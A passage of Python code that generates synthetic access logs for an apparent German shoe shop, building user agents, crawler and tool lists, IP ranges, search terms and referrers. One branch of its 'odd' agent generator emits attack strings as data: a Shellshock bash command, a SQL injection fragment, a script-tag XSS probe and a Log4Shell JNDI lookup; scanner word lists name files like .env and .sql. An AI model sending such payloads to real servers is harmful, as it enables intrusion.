        return f"SchuhApp/{R.randint(2, 3)}.{skew(R, 9, 1.5)}.{skew(R, 20, 2)} (iPhone; iOS {dotted}; Scale/3.00)", True

    def android_app(self):
        R = self.R
        model, v, build = android_device(R)
        m = chrome_major(R)
        webview = (f"Mozilla/5.0 (Linux; Android {v}; {model} Build/{build}; wv) AppleWebKit/537.36 (KHTML, like Gecko) "
                   f"Version/4.0 Chrome/{chrome_version(R, m, False)} Mobile Safari/537.36")
        r = R.random()
        if r < 0.25:
            return webview, False
        if r < 0.55:
            return (f"{webview} [FB_IAB/FB4A;FBAV/{495 - skew(R, 20, 2)}.0.0.{R.randint(10, 60)}."
                    f"{R.randint(100, 120)};]"), False
        if r < 0.75:
            return (f"{webview} Instagram {360 - skew(R, 25, 2)}.0.0.{R.randint(10, 40)}.{R.randint(80, 120)} Android "
                    f"({30 + skew(R, 5, 1)}/{v}; {R.choice([420, 440, 480, 560])}dpi; 1080x{R.choice([2220, 2340, 2400])}; "
                    f"{R.choice(['samsung', 'Xiaomi', 'Google', 'OnePlus', 'motorola'])}; {model}; "
                    f"{token(R, 5, 'abcdefghijklmnopqrstuvwxyz')}; qcom; {R.choice(LOCALES)}; {R.randint(600000000, 699999999)})"), False
        if r < 0.85:
            return (f"{webview} trill_{R.randint(2023, 2024)}{R.randint(100000, 999999)} JsSdk/1.0 NetType/"
                    f"{R.choice(['WIFI', '4G', '5G'])} Channel/googleplay AppName/musical_ly app_version/"
                    f"{37 - skew(R, 4, 2)}.{R.randint(0, 9)}.{R.randint(0, 5)} ByteLocale/de ByteFullLocale/de Region/DE"), False
        if r < 0.93:
            return f"Dalvik/2.1.0 (Linux; U; Android {v}; {model} Build/{build})", False
        return f"SchuhApp/{R.randint(2, 3)}.{skew(R, 9, 1.5)}.{skew(R, 20, 2)} (Android {v}; {model})", False

    def legacy_ie(self):
        R = self.R
        version, nt, trident = R.choice([("6.0", "5.1", None), ("7.0", "5.1", None), ("7.0", "6.0", None),
                                         ("8.0", "5.1", "4.0"), ("8.0", "6.1", "4.0"), ("9.0", "6.1", "5.0"),
                                         ("10.0", "6.1", "6.0"), ("10.0", "6.2", "6.0"), ("11.0", "6.1", "7.0"),
                                         ("11.0", "6.3", "7.0"), ("11.0", "10.0", "7.0"), ("11.0", "10.0", "7.0")])
        tokens = [t for t in IE_TOKENS if R.random() < 0.18]
        arch = R.choice([None, "WOW64", "Win64; x64"])
        if version == "11.0":
            parts = [f"Windows NT {nt}"] + ([arch] if arch else []) + ["Trident/7.0"] + tokens + ["rv:11.0"]
            return f"Mozilla/5.0 ({'; '.join(parts)}) like Gecko", False
        head = "Mozilla/5.0" if version in ("9.0", "10.0") else "Mozilla/4.0"
        parts = ["compatible", f"MSIE {version}", f"Windows NT {nt}"] + ([arch] if arch else []) \
            + ([f"Trident/{trident}"] if trident else []) + tokens
        return f"{head} ({'; '.join(parts)})", False

    def other(self):
        R = self.R
        r = R.random()
        if r < 0.2:
            tz = R.choice(["5.0", "5.5", "6.0", "6.5", "7.0"])
            return (f"Mozilla/5.0 (SMART-TV; LINUX; Tizen {tz}) AppleWebKit/537.36 (KHTML, like Gecko) "
                    f"{chrome_version(R, R.choice([69, 76, 85, 94, 108]), False)}/{tz} TV Safari/537.36"), False
        if r < 0.3:
            return (f"Mozilla/5.0 (Web0S; Linux/SmartTV) AppleWebKit/537.36 (KHTML, like Gecko) "
                    f"Chrome/{chrome_version(R, R.choice([79, 87, 94, 108]), False)} Safari/537.36 WebAppManager"), False
        if r < 0.38:
            return (f"Mozilla/5.0 (PlayStation; PlayStation 5/{R.randint(2, 10)}.{R.randint(0, 60):02d}) "
                    f"AppleWebKit/605.1.15 (KHTML, like Gecko)"), False
        if r < 0.44:
            return (f"Mozilla/5.0 (Windows NT 10.0; Win64; x64; Xbox; Xbox Series X) AppleWebKit/537.36 (KHTML, like Gecko) "
                    f"Chrome/{chrome_major(R)}.0.0.0 Safari/537.36 Edge/44.{R.randint(18000, 20000)}.{R.randint(1000, 9999)}"), False
        if r < 0.52:
            model, v, build = android_device(R)
            return (f"Mozilla/5.0 (Linux; U; Android {v}; en-US; {model} Build/{build}) AppleWebKit/537.36 (KHTML, like Gecko) "
                    f"Version/4.0 Chrome/{chrome_version(R, 78, False)} UCBrowser/13.{R.randint(0, 6)}.{R.randint(0, 9)}."
                    f"{R.randint(1000, 1399)} Mobile Safari/537.36"), False
        if r < 0.6:
            model, v, _ = android_device(R)
            return (f"Mozilla/5.0 (Linux; Android {v}; {model}; HMSCore {R.randint(5, 6)}.{R.randint(0, 3)}.0.{R.randint(100, 399)}) "
                    f"AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{chrome_version(R, 114, False)} "
                    f"HuaweiBrowser/{R.randint(13, 15)}.0.{R.randint(0, 6)}.{R.randint(300, 330)} Mobile Safari/537.36"), False
        if r < 0.68:
            return (f"Mozilla/5.0 (Linux; Android 9; {R.choice(['KFTRWI', 'KFMAWI', 'KFONWI', 'KFRAWI'])}) "
                    f"AppleWebKit/537.36 (KHTML, like Gecko) Silk/{R.randint(120, 131)}.{R.randint(1, 5)}.{R.randint(1, 9)} "
                    f"like Chrome/{chrome_version(R, R.randint(120, 131), False)} Safari/537.36"), False
        if r < 0.74:
            return (f"Mozilla/5.0 (Mobile; {R.choice(['Nokia 8000 4G', 'Nokia 2780 Flip', 'LYF/F300B', 'TCL 4056W'])}; "
                    f"rv:84.0) Gecko/84.0 Firefox/84.0 KAIOS/3.{R.randint(0, 1)}"), False
        if r < 0.82:
            return (f"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) "
                    f"{R.choice(['Brave Chrome', 'Chromium', 'Ubuntu Chromium'])}/{chrome_version(R, chrome_major(R), False)} "
                    f"Safari/537.36"), False
        if r < 0.9:
            return (f"Mozilla/5.0 ({pick_w(R, WINDOWS_TOKENS)}; rv:{R.choice(['102.0', '115.0', '128.0'])}) Gecko/20100101 "
                    f"Goanna/6.{R.randint(0, 7)} Firefox/{R.choice(['102.0', '115.0'])} PaleMoon/33.{R.randint(0, 5)}."
                    f"{R.randint(0, 3)}"), False
        return (f"Mozilla/5.0 ({pick_w(R, WINDOWS_TOKENS)}) AppleWebKit/537.36 (KHTML, like Gecko) "
                f"Chrome/{chrome_version(R, R.randint(118, 131), False)} Electron/{R.randint(25, 33)}.{R.randint(0, 4)}."
                f"{R.randint(0, 12)} Safari/537.36"), False

    def odd(self):
        """Agents from mis-set tools and hand-made requests: short, cut, doubled, very long, odd bytes."""
        R = self.R
        r = R.random()
        if r < 0.12:
            return R.choice(["Mozilla/5.0", "Mozilla/4.0", "Mozilla", "Mozilla/5.0 (compatible)", "Mozilla/5.0 ()",
                             "-", "", " ", "Mozilla/5.0 (X11)", "Browser", "Safari", "Chrome"]), False
        if r < 0.3:
            full, _ = self.chrome_windows()
            return full[:R.randint(20, len(full) - 5)], False
        if r < 0.42:
            full, _ = self.chrome_android()
            return full.lower() if R.random() < 0.5 else full.upper(), False
        if r < 0.52:
            full, _ = self.chrome_windows()
            return full + " " + full.split(") ", 1)[1], False
        if r < 0.66:
            # Toolbars and add-ons piled into one agent, hundreds of bytes long.
            tokens = "; ".join(IE_TOKENS[R.randint(0, 3):])
            return (f"Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; WOW64; Trident/4.0; {tokens}; "
                    f"{'; '.join(token(R, R.randint(4, 9)) for _ in range(R.randint(3, 12)))})"), False
        if r < 0.74:
            full, ios = self.safari_ios()
            return full.replace("(KHTML, like Gecko)", R.choice(["(KHTML, like Gecko) \xc4pfel/1.0",
                                                                  utf8_as_latin1("(KHTML, like Gecko) Größe/2")])), ios
        if r < 0.82:
            return f"{token(R, R.randint(6, 14), 'abcdefghijklmnopqrstuvwxyz')}/{R.randint(0, 9)}.{R.randint(0, 99)}", False
        if r < 0.9:
            full, _ = self.firefox()
            return full.replace(" ", "  ", R.randint(1, 3)) + R.choice(["", " ", ";", ")"]), False
        return R.choice(["() { :; }; echo; /bin/bash -c 'id'", "Mozilla/5.0' AND 1=1-- -",
                         "<script>alert(1)</script>", "${jndi:ldap://198.51.100.7:1389/a}",
                         "Mozilla/5.0 (Windows NT 10.0; Win64; x64)\\tAppleWebKit/537.36",
                         'Mozilla/5.0 \\"Firefox\\"', "Mozilla/5.0 \\x22quoted\\x22"]), False


# Crawlers beyond the big search engines: (weight, agent with {v} for a version).
CRAWLERS = [
    (6, "Mozilla/5.0 (compatible; DotBot/1.2; +https://opensiteexplorer.org/dotbot; help@moz.com)"),
    (4, "Mozilla/5.0 (compatible; BLEXBot/1.0; +https://help.seranking.com/en/blex-crawler)"),
    (4, "Mozilla/5.0 (compatible; SeznamBot/4.0; +https://o-seznam.cz/napoveda/vyhledavani/en/seznambot-crawler/)"),
    (4, "Mozilla/5.0 (compatible; DataForSeoBot/1.0; +https://dataforseo.com/dataforseo-bot)"),
    (3, "serpstatbot/2.1 (advanced backlink tracking bot; https://serpstatbot.com/; abuse@serpstatbot.com)"),
    (3, "Mozilla/5.0 (compatible; Barkrowler/0.9; +https://babbar.tech/crawler)"),
    (5, "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Amazonbot/0.1; +https://developer.amazon.com/support/amazonbot) Chrome/119.0.6045.214 Safari/537.36"),
    (5, "Mozilla/5.0 (Linux; Android 5.0) AppleWebKit/537.36 (KHTML, like Gecko) Mobile Safari/537.36 (compatible; Bytespider; spider-feedback@bytedance.com)"),
    (4, "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)"),
    (3, "CCBot/2.0 (https://commoncrawl.org/faq/)"),
    (2, "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; PerplexityBot/1.0; +https://perplexity.ai/perplexitybot)"),
    (2, "Mozilla/5.0 (compatible; coccocbot-web/1.0; +http://help.coccoc.com/searchengine)"),
    (2, "Mozilla/5.0 (compatible; Qwantbot/1.0; +https://help.qwant.com/bot/)"),
    (1, "MojeekBot/0.11 (+https://www.mojeek.com/bot.html)"),
    (2, "Mozilla/5.0 (compatible; YandexMetrika/2.0; +http://yandex.com/bots)"),
    (1, "Mozilla/5.0 (compatible; YandexFavicons/1.0; +http://yandex.com/bots)"),
    (2, "Sogou web spider/4.0(+http://www.sogou.com/docs/help/webmasters.htm#07)"),
    (1, "Mozilla/5.0 (compatible; archive.org_bot +http://archive.org/details/archive.org_bot)"),
    (2, "Mozilla/5.0 (compatible; SiteAuditBot/0.97; +http://www.semrush.com/bot.html)"),
    (1, "Screaming Frog SEO Spider/{v}"),
    (2, "Mozilla/5.0 (compatible; Seekport Crawler; http://seekport.com/)"),
    (1, "Mozilla/5.0 (compatible; DuckDuckGo-Favicons-Bot/1.0; +http://duckduckgo.com)"),
    (2, "Mozilla/5.0 (compatible; Google-InspectionTool/1.0;)"),
    (2, "Mozilla/5.0 (compatible; GoogleOther)"),
    (2, "Mozilla/5.0 (Windows NT 10.0; Win64; x64; Storebot-Google/1.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{c} Safari/537.36"),
    (2, "AdsBot-Google (+http://www.google.com/adsbot.html)"),
    (1, "Mediapartners-Google"),
    (1, "APIs-Google (+https://developers.google.com/webmasters/APIs-Google.html)"),
    (2, "FeedFetcher-Google; (+http://www.google.com/feedfetcher.html)"),
    (1, "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0; BingPreview/1.0b)"),
    (2, "Mozilla/5.0 (compatible; ImagesiftBot; +imagesift.com)"),
    (1, "Mozilla/5.0 (compatible; Linespider/1.1; +https://lin.ee/4dwXkTH)"),
    (1, "Turnitin (https://bit.ly/2UvnfoQ)"),
    (1, "Mozilla/5.0 (compatible; Pinterestbot/1.0; +http://www.pinterest.com/bot.html)"),
    (1, "Mozilla/5.0 (compatible; MTRobot/0.2; +https://metadatatechnologies.com/ MTRobot)"),
    (1, "Apache Nutch/1.{v}"),
    (1, "Mozilla/5.0 (compatible; SEOkicks; +https://www.seokicks.de/robot.html)"),
    (1, "Mozilla/5.0 (compatible; Seobility; +https://www.seobility.net/sites/bot.html)"),
    (1, "Mozilla/5.0 (compatible; MegaIndex.ru/2.0; +http://megaindex.com/crawler)"),
    (1, "Mozilla/5.0 (compatible; YisouSpider; +http://www.yisou.com)"),
    (1, "yacybot (/global; amd64 Linux 6.1.0-{v}-amd64; java 17.0.{v}; Europe/de) http://yacy.net/bot.html"),
    (1, "Mozilla/5.0 (compatible; HTTrack 3.0x; Windows 98)"),
    (1, "Mozilla/5.0 (compatible; woriobot +http://worio.com)"),
    (1, "Mozilla/5.0 (compatible; AwarioBot/1.0; +https://awario.com/bots.html)"),
    (1, "Mozilla/5.0 (compatible; Neevabot/1.0; +https://neeva.com/neevabot)"),
    (1, "Mozilla/5.0 (compatible; MJ12bot/v1.4.{v}; http://mj12bot.com/)"),
    (1, "HeadlessChrome/{c}"),
]
GOOGLEBOT_CHROME = ["131.0.6778.69", "131.0.6778.85", "130.0.6723.116", "130.0.6723.69", "129.0.6668.100",
                    "128.0.6613.137", "127.0.6533.119"]
BOT_WORDS = ["link", "page", "site", "web", "data", "seo", "rank", "search", "index", "scan", "shop", "price",
             "feed", "news", "meta", "deep", "net", "blue", "open", "fast", "smart", "trend", "brand", "market"]
BOT_ENDS = ["Bot", "bot", "-crawler", "Spider", "Crawler", "-bot", "Robot"]
TLDS = ["com", "com", "net", "io", "de", "org", "co", "ai", "fr", "nl", "co.uk", "ru", "pl", "es", "it", "ch", "at"]

FEED_READERS = [
    (5, "Feedly/1.0 (+http://www.feedly.com/fetcher.html; {n} subscribers; like FeedFetcher-Google)"),
    (3, "Mozilla/5.0 (compatible; Inoreader/1.0; +http://www.inoreader.com/feed-fetcher; {n} subscribers; )"),
    (2, "NewsBlur Feed Fetcher - {n} subscribers - https://www.newsblur.com/site/{id}/example-shoes-blog (Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/16.4 Safari/605.1.15)"),
    (2, "Feedbin feed-id:{id} - {n} subscribers"),
    (1, "Tiny Tiny RSS/{v} (https://tt-rss.org/)"),
    (1, "NetNewsWire (RSS Reader; https://netnewswire.com/)"),
    (1, "FreshRSS/1.24.{v} (Linux; https://freshrss.org)"),
    (1, "Miniflux/2.2.{v}; +https://miniflux.app"),
    (1, "Nextcloud-News/1.0"),
    (1, "Thunderbird/128.{v}.0"),
]
MONITORS = [
    (5, "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)"),
    (2, "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)"),
    (2, "Mozilla/5.0 (compatible; StatusCake)"),
    (1, "Site24x7"),
    (1, "Better Uptime Bot Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36"),
    (1, "Uptime-Kuma/1.23.{v}"),
    (1, "check_http/v2.3.{v} (monitoring-plugins 2.3.{v})"),
    (1, "Zabbix"),
    (1, "Mozilla/5.0 (compatible; Checkly/1.0; +https://www.checklyhq.com)"),
]
TOOLS = [
    (4, "curl/8.{b}.{c}", (8, 8), (0, 11), (0, 1)),
    (2, "curl/7.{b}.{c}", (7, 7), (29, 88), (0, 1)),
    (3, "Wget/1.{b}.{c}", (1, 1), (14, 25), (0, 2)),
    (5, "python-requests/2.{b}.{c}", (2, 2), (18, 32), (0, 3)),
    (2, "Python-urllib/3.{b}", (3, 3), (6, 13), (0, 0)),
    (4, "Go-http-client/{a}.{b}", (1, 2), (0, 1), (0, 0)),
    (3, "okhttp/{a}.{b}.{c}", (3, 4), (9, 12), (0, 12)),
    (2, "Java/{a}.0.{c}", (11, 21), (0, 0), (1, 24)),
    (2, "Apache-HttpClient/4.5.{b} (Java/1.8.0_{c})", (4, 4), (3, 14), (101, 402)),
    (2, "axios/1.{b}.{c}", (1, 1), (1, 7), (0, 9)),
    (1, "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", (0, 0), (0, 0), (0, 0)),
    (1, "PostmanRuntime/7.{b}.{c}", (7, 7), (26, 43), (0, 2)),
    (1, "Python/3.{b} aiohttp/3.9.{c}", (3, 3), (8, 12), (0, 5)),
    (1, "python-httpx/0.{b}.{c}", (0, 0), (23, 28), (0, 2)),
    (1, "Scrapy/2.{b}.{c} (+https://scrapy.org)", (2, 2), (5, 11), (0, 2)),
    (1, "libwww-perl/6.{b}", (6, 6), (43, 77), (0, 0)),
    (1, "Dart/3.{b} (dart:io)", (3, 3), (0, 5), (0, 0)),
    (1, "GuzzleHttp/7", (0, 0), (0, 0), (0, 0)),
    (1, "WordPress/6.{b}.{c}; https://blog{c}.example.net", (6, 6), (2, 7), (0, 9)),
    (1, "Mozilla/5.0 (Windows NT; Windows NT 10.0; de-DE) WindowsPowerShell/5.1.{c}", (5, 5), (1, 1), (17763, 26100)),
]
PREVIEWERS = [
    (4, "WhatsApp/2.{a}.{b}.{c} {d}"), (2, "TelegramBot (like TwitterBot)"),
    (2, "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)"), (1, "Discordbot/2.0; +https://discordapp.com"),
    (2, "Twitterbot/1.0"), (1, "SkypeUriPreview Preview/0.5 skype-url-preview@microsoft.com"),
    (1, "Iframely/1.3.1 (+https://iframely.com/docs/about)"),
    (3, "Mastodon/4.{a}.{b} (http.rb/5.{c}.{d}; +https://{host}/)"),
    (1, "Mozilla/5.0 (compatible; Pleroma {a}.{b}; https://{host})"),
    (2, "LinkedInBot/1.0 (compatible; Mozilla/5.0; Apache-HttpClient +http://www.linkedin.com)"),
]
SCANNER_WORDS = ["admin", "backup", "old", "test", "dev", "wp", "shop", "db", "config", "upload", "tmp", "site",
                 "data", "api", "v1", "v2", "static", "new", "demo", "private"]
SCANNER_EXTS = [".php", ".php", ".bak", ".zip", ".sql", ".tar.gz", ".env", ".yml", ".json", ".old", ".txt", "/"]


# Networks visitors browse from: /16s of access providers in the countries a shop in Germany
# sees most, and IPv6 /32s of providers there.
IPV4_NETS = [
    (40, "de", "2.210 2.215 31.248 31.251 53.7 53.48 53.50 53.66 53.132 53.214 53.219 53.227 62.54 79.194 84.159 "
               "85.183 87.134 91.47 91.50 91.57 91.62 93.230 94.221 95.91 95.223 132.230 134.100 134.103 137.251 "
               "138.245 141.12 141.32 141.40 146.140 178.25 188.145 212.202"),
    (18, "us", "12.105 67.191 70.172 74.108 76.58 99.141 135.53 138.42 144.195 146.34 148.41 152.208 158.111 "
               "160.130 162.236 165.189 171.204 198.3 205.96"),
    (6, "gb", "25.55 31.107 62.31 86.130 86.182 130.88"), (6, "fr", "57.242 77.200 79.88 90.48 92.151 176.141 176.144"),
    (5, "nl", "85.147 145.19 145.156 145.161 145.173"), (6, "at", "46.206 77.118 129.27 178.113 178.114 194.208"),
    (6, "ch", "92.104 148.187 153.109 162.23 188.155 212.254"), (3, "it", "2.224 80.183 82.84 85.38"),
    (3, "es", "2.139 46.26 62.36 90.165 95.21"), (3, "pl", "31.63 79.187 83.9 88.156 164.126"),
    (2, "se", "78.77 86.113"), (2, "be", "91.181 94.107 94.225"), (1, "dk", "80.165 109.56"),
    (1, "cz", "89.103 90.179"), (2, "ca", "142.189 207.23"), (1, "au", "115.130 141.168"),
    (2, "br", "189.92 191.122 191.131"), (2, "in", "106.219 117.202 152.56"), (1, "jp", "126.199"),
    (1, "cn", "115.218 183.138"), (2, "ru", "2.93 128.69 178.64"), (1, "tr", "88.227 176.43"),
    (1, "ua", "5.207 93.72"), (1, "pt", "194.210 213.22"), (1, "ie", "109.255"), (1, "no", "46.66 163.174"),
    (1, "fi", "146.211 193.199"), (1, "gr", "89.210 109.242"), (1, "ro", "5.14 188.173"), (1, "hu", "80.98 188.157"),
    (1, "mx", "200.67"), (0.5, "za", "146.230"), (0.5, "kr", "112.148"), (0.5, "ar", "181.109"), (0.5, "id", "120.168"),
]
IPV6_NETS = [(20, 0x2a028108), (18, 0x200300e5), (8, 0x200116b8), (6, 0x2a010c22),
             (5, 0x2a02810d), (3, 0x2a022455), (6, 0x2a01cb00), (3, 0x2a010e0a), (6, 0x26001700), (5, 0x26010600),
             (3, 0x2607fb90), (3, 0x2a0023c6), (2, 0x2a020c7c), (3, 0x2a028388), (3, 0x2a021210), (2, 0x2a02aa13),
             (2, 0x20010b07), (1, 0x2a0c5a80), (2, 0x24094060), (1, 0x2804014c), (1, 0x24004050), (1, 0x2a001028)]
NAME_TLDS = ["de", "de", "de", "net", "com", "at", "ch", "fr", "co.uk", "nl", "it", "pl", "es", "se", "be"]


def ipv6_text(value):
    """RFC 5952 text of a 128-bit number: lower-case hex, the longest run of zero groups as ::."""
    groups = [(value >> (112 - 16 * i)) & 0xFFFF for i in range(8)]
    best, best_len, run, run_len = -1, 0, -1, 0
    for i, g in enumerate(groups):
        if g == 0:
            if run < 0:
                run, run_len = i, 0
            run_len += 1
            if run_len > best_len and run_len > 1:
                best, best_len = run, run_len
        else:
            run = -1
    if best < 0:
        return ":".join(f"{g:x}" for g in groups)
    head = ":".join(f"{g:x}" for g in groups[:best])
    tail = ":".join(f"{g:x}" for g in groups[best + best_len:])
    return f"{head}::{tail}"


# Search terms: a shopper's words in several languages, put together as people type them.
TERM_WORDS = {
    "colour": ["red", "black", "white", "blue", "rot", "schwarz", "weiss", "wei\u00df", "navy", "grey", "brown",
               "braun", "green", "beige", "pink", "rouge", "noir", "blanco", "gold", "silver", "bunt", "olive"],
    "who": ["women", "men", "kids", "damen", "herren", "kinder", "femme", "homme", "mujer", "girls", "boys",
            "m\u00e4dchen", "jungen", "unisex", "baby"],
    "what": ["shoes", "sneakers", "boots", "schuhe", "sandals", "stiefel", "turnschuhe", "running shoes",
             "laufschuhe", "hiking boots", "wanderschuhe", "chaussures", "baskets", "zapatos", "scarpe",
             "schoenen", "slippers", "hausschuhe", "chelsea boots", "sandalen", "pumps", "loafers", "trainers",
             "\u043a\u0440\u043e\u0441\u0441\u043e\u0432\u043a\u0438", "\u978b\u5b50", "buty", "gummistiefel"],
    "how": ["leather", "leder", "waterproof", "wasserdicht", "vegan", "suede", "wildleder", "wide", "breit",
            "comfortable", "bequem", "lightweight", "warm", "gef\u00fcttert", "canvas", "high-top", "low",
            "winter", "summer", "sommer", "orthopedic", "barefoot", "slip-on", "trail"],
    "more": ["sale", "g\u00fcnstig", "cheap", "online", "kaufen", "buy", "review", "test", "2026", "near me",
             "in der n\u00e4he", "outlet", "discount", "gutschein", "coupon", "size chart", "gr\u00f6\u00dfentabelle",
             "return", "r\u00fccksendung", "shipping", "versandkostenfrei", "best", "vergleich", "pas cher", "oferta",
             "m\u00fcnchen", "berlin", "hamburg", "k\u00f6ln", "wien", "z\u00fcrich"],
}


SIZE_WORDS = ["size", "gr\u00f6\u00dfe", "gr", "eu", ""]


class SearchTerms:
    def __init__(self, rng):
        self.R = rng

    def __call__(self):
        R = self.R
        if R.random() < 0.2:
            return SEARCH_TERMS[skew(R, len(SEARCH_TERMS), 1.8)]
        if R.random() < 0.04:
            return f"example {R.choice(['shoes', 'schuhe', 'shop', 'gutschein', 'store', 'hotline', 'retoure'])}"
        words = []
        if R.random() < 0.25:
            words.append(TERM_WORDS["colour"][skew(R, len(TERM_WORDS["colour"]), 1.7)])
        if R.random() < 0.2:
            words.append(TERM_WORDS["how"][skew(R, len(TERM_WORDS["how"]), 1.6)])
        words.append(TERM_WORDS["what"][skew(R, len(TERM_WORDS["what"]), 1.8)])
        if R.random() < 0.35:
            words.append(TERM_WORDS["who"][skew(R, len(TERM_WORDS["who"]), 1.7)])
        if R.random() < 0.2:
            words.append(f"{R.choice(SIZE_WORDS)} {36 + skew(R, 12, 1.2)}".strip())
        if R.random() < 0.2:
            words.append(TERM_WORDS["more"][skew(R, len(TERM_WORDS["more"]), 1.8)])
        if R.random() < 0.05:
            R.shuffle(words)
        return " ".join(words)


def enc_plus(term):
    return urllib.parse.quote_plus(term)


def enc_latin(term):
    try:
        return urllib.parse.quote_plus(term, encoding="latin-1")
    except UnicodeEncodeError:
        return urllib.parse.quote_plus(term)


def enc_pct(term):
    return urllib.parse.quote(term, safe="")


def zipf_pool(R, n, make):
    """n values made once, with a picker that favours the first ones (1 / rank)."""
    values = [make(i) for i in range(n)]
    return weighted(R, [(1.0 / (i + 1), v) for i, v in enumerate(values)])


def site_name(R, i):
    w = BOT_WORDS + ["schuh", "lauf", "berg", "stadt", "mode", "style", "family", "sport", "outdoor", "walk"]
    return f"{R.choice(w)}{R.choice(['', '-', ''])}{R.choice(w)}{R.choice(['', '', str(R.randint(1, 99))])}.{R.choice(TLDS)}"


SCA = ["b7a1d9c3e5f20417", "4c0e9a2b6d8f1357", "90f3c2a1e8d7b645", "1e2d3c4b5a697887", "a0b1c2d3e4f50617"]


class RealReferrers:
    """Referrers of the varied log: search engines with and without terms, social sites, other sites."""

    def __init__(self, rng, terms):
        R = self.R = rng
        self.term = terms
        words = [w.replace(" ", "-") for w in TERM_WORDS["what"] + TERM_WORDS["how"] + BOT_WORDS if w.isascii()]
        slug = lambda: "-".join(R.choice(words) for _ in range(R.randint(2, 5)))
        self.threads = zipf_pool(R, 1500, lambda i: f"https://www.reddit.com/r/{R.choice(['running', 'Sneakers', 'BuyItForLife', 'de', 'malefashionadvice', 'femalefashionadvice', 'hiking', 'germany'])}/comments/{token(R, 7, 'abcdefghijklmnopqrstuvwxyz0123456789')}/{slug()}/")
        self.pins = zipf_pool(R, 1500, lambda i: f"https://www.pinterest.{R.choice(['com', 'de', 'fr', 'co.uk'])}/pin/{R.getrandbits(58)}/")
        self.tco = zipf_pool(R, 500, lambda i: f"https://t.co/{token(R, 10)}")
        self.videos = zipf_pool(R, 600, lambda i: f"https://www.youtube.com/watch?v={token(R, 11)}")
        self.instances = zipf_pool(R, 800, lambda i: f"{R.choice(['social', 'mastodon', 'toot', 'chaos', 'mstdn', 'norden', 'det'])}.{site_name(R, i)}")
        self.sites = zipf_pool(R, 3000, lambda i: site_name(R, i))
        self.posts = zipf_pool(R, 1500, lambda i: f"{2020 + skew(R, 7, 0.5)}/{R.randint(1, 12):02d}/{slug()}/")
        self.engine = weighted(R, [
            (60, self.google), (10, self.bing), (5, self.simple("https://duckduckgo.com/?q={}&t=h_&ia=web", enc_plus, 0.7, "https://duckduckgo.com/")),
            (3, self.yahoo), (3, self.simple("https://www.ecosia.org/search?method=index&q={}", enc_plus, 0.3, "https://www.ecosia.org/")),
            (2, self.simple("https://yandex.ru/search/?text={}&lr=213", enc_pct, 0.1, "https://yandex.ru/")),
            (1, self.simple("https://www.baidu.com/s?wd={}&ie=utf-8", enc_pct, 0.1, "https://www.baidu.com/")),
            (1, self.simple("https://www.qwant.com/?q={}&t=web", enc_plus, 0.3, "https://www.qwant.com/")),
            (1, self.simple("https://www.startpage.com/sp/search?query={}", enc_plus, 0.9, "https://www.startpage.com/")),
            (1.5, self.simple("https://search.brave.com/search?q={}&source=web", enc_plus, 0.3, "https://search.brave.com/")),
            (3, lambda: "android-app://com.google.android.googlequicksearchbox/"),
            (0.5, self.simple("https://search.seznam.cz/?q={}", enc_plus, 0.2, "https://search.seznam.cz/")),
            (0.3, self.simple("https://search.naver.com/search.naver?where=nexearch&query={}", enc_pct, 0.1, "https://search.naver.com/")),
            (0.3, self.simple("https://www.sogou.com/web?query={}", enc_pct, 0.1, "https://www.sogou.com/")),
            (0.2, self.simple("https://www.so.com/s?q={}", enc_pct, 0.1, "https://www.so.com/")),
            (0.2, self.simple("https://search.daum.net/search?w=tot&q={}", enc_pct, 0.1, "https://search.daum.net/")),
            (0.3, self.simple("https://metager.org/meta/meta.ger3?eingabe={}&focus=web", enc_plus, 0.2, "https://metager.org/")),
            (0.5, self.simple("https://www.perplexity.ai/search?q={}", enc_pct, 0.6, "https://www.perplexity.ai/")),
            (0.2, self.simple("https://kagi.com/search?q={}", enc_plus, 0.3, "https://kagi.com/")),
            (0.1, self.simple("https://www.mojeek.com/search?q={}", enc_plus, 0.1, "https://www.mojeek.com/")),
            (0.5, self.simple("https://suche.web.de/web/result?q={}&origin=HP", enc_plus, 0.1, "https://suche.web.de/")),
            (0.4, self.simple("https://suche.gmx.net/web/result?q={}", enc_plus, 0.1, "https://suche.gmx.net/")),
            (0.5, self.simple("https://suche.t-online.de/fast-cgi/tsc?q={}&context=internet-tab", enc_latin, 0.1, "https://suche.t-online.de/")),
            (0.3, self.simple("https://search.aol.com/aol/search?q={}&s_it=sb-top", enc_plus, 0.1, "https://search.aol.com/")),
            (0.2, self.simple("https://www.ask.com/web?q={}&qo=homepageSearchBox", enc_plus, 0.1, "https://www.ask.com/")),
            (0.1, self.simple("https://yep.com/web?q={}", enc_plus, 0.1, "https://yep.com/")),
            (0.1, self.simple("http://search.msn.com/results.aspx?q={}&FORM=MSNH", enc_plus, 0.0, "")),
            (0.05, self.simple("http://www.altavista.com/web/results?itag=ody&q={}&kgs=1&kls=0", enc_latin, 0.0, "")),
            (0.05, self.simple("http://search.lycos.com/web/?q=x&query={}", enc_plus, 0.0, "")),
            (0.05, self.simple("http://www.webcrawler.com/serp?q={}", enc_plus, 0.0, "")),
        ])
        self.kind = weighted(R, [
            (18, self.facebook), (7, self.instagram), (5, lambda: self.tco()), (2, lambda: "https://x.com/"),
            (4, self.reddit), (3, lambda: self.pins() if R.random() < 0.8 else "https://www.pinterest.com/"),
            (2, lambda: self.videos() if R.random() < 0.6 else "https://www.youtube.com/"),
            (1, lambda: "https://www.linkedin.com/"), (1, lambda: "https://www.tiktok.com/"),
            (1, lambda: R.choice(["https://web.whatsapp.com/", "https://web.telegram.org/", "android-app://org.telegram.messenger/"])),
